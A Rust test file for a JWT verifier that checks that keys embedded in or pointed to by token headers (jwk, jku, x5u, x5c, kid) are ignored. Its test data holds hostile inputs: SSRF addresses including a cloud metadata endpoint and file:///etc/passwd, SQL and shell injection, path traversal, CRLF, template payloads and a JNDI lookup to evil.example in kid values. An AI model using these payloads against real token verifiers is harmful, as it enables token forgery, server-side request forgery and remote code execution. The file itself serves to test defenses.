//! The header points at a key of the attacker's: within itself, somewhere on the web, or by a `kid` that
//! some program behind the verifier takes for a path, a query or a template.

use openssl::pkey::PKey;
use openssl::sign::Signer;
use portcullis_test_support::{Reply, SigningKey, Site, base64url, jwks};
use serde_json::{Value, json};

use crate::support::*;

fn signed_under(signer: &SigningKey, header: &Value) -> String {
    signer.sign_text(&header.to_string(), &claims().to_string())
}

/// CVE-2018-0114.
#[test]
fn a_key_in_the_header_is_not_read() {
    let mallory = SigningKey::generate("RS256", "mallory");
    let oct = json!({"kty": "oct", "k": base64url("secret"), "alg": "HS256"});
    let with = |kid: &str, jwk: Value| {
        signed_under(&mallory, &json!({"alg": "RS256", "kid": kid, "jwk": jwk}))
    };
    judges().agree([
        ("with his kid", with("mallory", mallory.jwk()), "key_unknown"),
        ("with the honest kid", with("rsa-1", mallory.jwk()), "signature"),
        ("oct", with("rsa-1", oct.clone()), "signature"),
        ("private", with("rsa-1", json!({"kty": "RSA", "d": "AQ"})), "signature"),
        (
            "without kid",
            signed_under(&mallory, &json!({"alg": "RS256", "jwk": mallory.jwk()})),
            "signature",
        ),
    ]);
    let header = json!({"alg": "HS256", "kid": "rsa-1", "jwk": oct}).to_string();
    let signed = format!("{}.{}", base64url(header), base64url(claims().to_string()));
    let key = PKey::hmac(b"secret").unwrap();
    let mac = Signer::new(openssl::hash::MessageDigest::sha256(), &key)
        .and_then(|mut signer| signer.sign_oneshot_to_vec(signed.as_bytes()))
        .unwrap();
    judges().agree([("a MAC", format!("{signed}.{}", base64url(mac)), "algorithm")]);
    // The honest key may say what it likes about itself: nobody listens.
    let header = json!({"alg": "RS256", "kid": "rsa-1", "jwk": mallory.jwk()});
    judges().agree([("ignored", signed_under(&RSA, &header), VERIFIED)]);
}

/// The site stands for every host that a header may name; nobody ever asks it.
#[test]
fn an_address_in_the_header_is_not_asked() {
    let site = Site::start();
    let mallory = SigningKey::generate("RS256", "mallory");
    site.set("/jwks", Reply::json(jwks([&mallory])));
    let host = site.url().trim_start_matches("http://");
    let addresses = [
        format!("{}/jwks", site.url()),
        format!("https://{host}/jwks"),
        format!("http://gitlab.example.com@{host}/jwks"),
        format!("http://{host}/jwks#https://gitlab.example.com"),
        format!("http://{host}/jwks?https://gitlab.example.com/oauth/discovery/keys"),
        "https://gitlab.example.com.evil.example/jwks".to_owned(),
        "https://gitlab.example.com/uploads/../../jwks".to_owned(),
        format!("https://gitlab.example.com/redirect?to=http://{host}/jwks"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "file:///etc/passwd".to_owned(),
        "http://[::1]/jwks".to_owned(),
        String::new(),
    ];
    for address in &addresses {
        for name in ["jku", "x5u"] {
            for (kid, code) in [("mallory", "key_unknown"), ("rsa-1", "signature")] {
                let header = json!({"alg": "RS256", "kid": kid, name: address});
                judges().agree([(address, signed_under(&mallory, &header), code)]);
            }
            let honest = json!({"alg": "RS256", "kid": "rsa-1", name: address});
            judges().agree([(address, signed_under(&RSA, &honest), VERIFIED)]);
        }
    }
    assert_eq!(site.requests(), [""; 0]);
}

#[test]
fn certificates_in_the_header_are_not_read() {
    let values = [
        ("x5c", json!(["garbage"])),
        ("x5c", json!([])),
        ("x5c", Value::Null),
        ("x5t", json!("unknown")),
        ("x5t#S256", json!(base64url([0; 32]))),
        ("x5t", json!(1)),
    ];
    for (name, value) in values {
        let header = json!({"alg": "RS256", "kid": "rsa-1", name: value});
        judges().agree([
            (name, signed_under(&STRANGER, &header), "signature"),
            (name, signed_under(&RSA, &header), VERIFIED),
        ]);
    }
}

/// Nothing ever looks a `kid` up but a table of texts.
#[test]
fn a_kid_is_a_text_and_nothing_else() {
    let odd = ["null", "\"\"", "1", "0.5", "true", "[\"rsa-1\"]", "[]", "{}", "{\"$ne\":null}"];
    judges().agree(
        odd.map(|kid| {
            (kid, honest_under(format!("{{\"alg\":\"RS256\",\"kid\":{kid}}}")), "header")
        }),
    );
    let long = "k".repeat(4096);
    let unknown = [
        "rsa-2",
        "RSA-1",
        "rsa-1 ",
        " rsa-1",
        "rsa-1\0",
        "rsa-1\0.pem",
        "\0",
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT '1' --",
        "' OR '1'='1",
        "rsa-1' OR 'a'='a",
        "| id ",
        "$(id)",
        "`id`",
        "https://evil.example/jwks",
        "rsa-1\r\nX-Injected: 1",
        "__proto__",
        "constructor",
        "r\u{455}a-1",
        "\u{202e}1-asr",
        "ｒｓａ-1",
        "rsa\u{2010}1",
        "*)(uid=*",
        "%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<%= 7 %>",
        "*",
        "rsa-*",
        &long,
    ];
    judges().agree(unknown.into_iter().flat_map(|kid| {
        let header = json!({"alg": "RS256", "kid": kid});
        [(format!("{kid:.40?}"), signed_under(&RSA, &header), "key_unknown")]
    }));
    // What a file that is empty, or a query that answers 1, would have been the secret for.
    for (kid, secret) in [("/dev/null", &[0; 64][..]), ("x' UNION SELECT '1' --", b"1")] {
        let header = json!({"alg": "HS256", "kid": kid}).to_string();
        let signed = format!("{}.{}", base64url(header), base64url(claims().to_string()));
        let key = PKey::hmac(secret).unwrap();
        let mac = Signer::new(openssl::hash::MessageDigest::sha256(), &key)
            .and_then(|mut signer| signer.sign_oneshot_to_vec(signed.as_bytes()))
            .unwrap();
        judges().agree([(kid, format!("{signed}.{}", base64url(mac)), "algorithm")]);
    }
}

/// A token that names no key is tried on those that its algorithm fits; one verifier may not want it.
#[test]
fn no_kid_is_no_wrong_kid() {
    for signer in [&*RSA, &*EC, &*ED] {
        let token = signer.clone().without_id().sign(&claims());
        judges().agree([("absent", token.clone(), VERIFIED)]);
        let strict = usual(house()).require_key_id().build();
        assert_eq!(verdict(&strict, &token), "key_id_missing");
        assert_eq!(verdict(&strict, &signer.sign(&claims())), VERIFIED);
    }
    let stranger = STRANGER.clone().without_id().sign(&claims());
    judges().agree([("of a stranger", stranger, "signature")]);
    let alone = Judges::of(|| set_of(&jwks([&*EC])));
    alone.agree([("of no such type", RSA.clone().without_id().sign(&claims()), "key_mismatch")]);
    let empty = Judges::of(|| set_of(&json!({"keys": []})));
    empty.agree([
        ("no keys", RSA.clone().without_id().sign(&claims()), "key_unknown"),
        ("no keys, a kid", RSA.sign(&claims()), "key_unknown"),
    ]);
}
